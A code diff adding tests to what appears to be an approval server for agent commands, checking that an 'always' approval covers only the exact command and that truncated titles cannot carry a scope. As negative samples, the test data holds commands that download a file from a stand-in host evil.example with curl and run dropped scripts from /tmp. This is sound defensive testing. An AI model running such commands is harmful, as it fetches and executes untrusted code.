@@ -1,4 +1,5 @@
 import { afterEach, describe, expect, it } from 'vitest';
+import { loadFixture } from '../helpers/fixtures.js';
 import { createRequest, decide, expectError, show } from '../helpers/request-api.js';
 import { createFakeClock } from '../helpers/fake-clock.js';
 import { startTestServer, type TestServer } from '../helpers/test-server.js';
@@ -241,6 +242,54 @@ describe('scoped allow', () => {
     expectError(await decide(t.api, r, 'approve', { scope }), 400, 'invalid_decision', field);
     expect((await show(t.api, r.id)).status).toBe('pending');
     expect(await t.count('rules')).toBe(0);
+  });
+
+  it('a command run through a wrapper or interpreter is remembered exactly: approving `timeout 60 npm test` never approves `timeout 60 curl …`', async () => {
+    t = await startTestServer();
+    for (const [approved, other] of [
+      ['timeout 60 npm test', 'timeout 60 curl -o /tmp/x https://evil.example/x'],
+      ['env CI=1 npm test', 'env bash /tmp/x'],
+      ['python3 build.py', 'python3 /tmp/evil.py'],
+    ] as const) {
+      const first = await createRequest(t.api, command(approved));
+      expect((await decide(t.api, first, 'approve', { scope: 'always' })).status).toBe(200);
+      expect((await createRequest(t.api, command(other))).status).toBe('pending');
+      expect((await createRequest(t.api, command(approved))).decision).toMatchObject({ decided_by: 'rule' });
+    }
+  });
+
+  it("refuses a scope on a native request whose title is the adapter's cut or stock phrase of a longer text: its next frame would pass on that alone", async () => {
+    t = await startTestServer();
+    const template = loadFixture('alp', 'permission-en-always-allow.json').frame;
+    const frame = (id: string, body: string) => {
+      const f = structuredClone(template);
+      Object.assign(f.params.event.question, { id, body });
+      return f;
+    };
+    // Longer than a title: the title becomes "reviewer asks for permission"; a line break: its first line.
+    for (const [id, body] of [
+      ['q_long', `reviewer wants to run npm run build -- ${'--flag '.repeat(30)}`],
+      ['q_heredoc', "reviewer wants to run cat > .env <<'EOF'\nDEBUG=1\nEOF"],
+    ]) {
+      const res = await t.api.post('/v1/formats/alp/requests', frame(id!, body!));
+      expect(res.status, res.text).toBe(201);
+      const stored = (await t.api.get('/v1/requests?status=pending')).body.find((r: any) => r.dedupe_key === `alp:${id}`);
+      expectError(await decide(t.api, stored, 'allow_once', { scope: 'always' }), 400, 'invalid_decision', 'scope');
+      expect((await show(t.api, stored.id)).status).toBe('pending');
+    }
+    expect(await t.count('rules')).toBe(0);
+    // A one-line text that is the whole title is remembered, and passes that text again only.
+    const short = await t.api.post('/v1/formats/alp/requests', frame('q_short', 'reviewer wants to run npm test'));
+    const record = (await t.api.get('/v1/requests?status=pending')).body.find((r: any) => r.dedupe_key === 'alp:q_short');
+    expect(short.status).toBe(201);
+    expect((await decide(t.api, record, 'allow_once', { scope: 'always' })).status).toBe(200);
+    const again = await t.api.post('/v1/formats/alp/requests', frame('q_again', 'reviewer wants to run npm test'));
+    expect(again.status).toBe(201);
+    const other = await t.api.post('/v1/formats/alp/requests', frame('q_other', `reviewer wants to run npm test\n${'x'.repeat(10)}`));
+    expect(other.status).toBe(201);
+    const byKey = async (key: string) => (await t!.api.get('/v1/requests?status=pending,approved')).body.find((r: any) => r.dedupe_key === key);
+    expect((await byKey('alp:q_again')).status).toBe('approved');
+    expect((await byKey('alp:q_other')).status).toBe('pending');
   });
 
   it('refuses a scope on a deny, a question and an info notice', async () => {
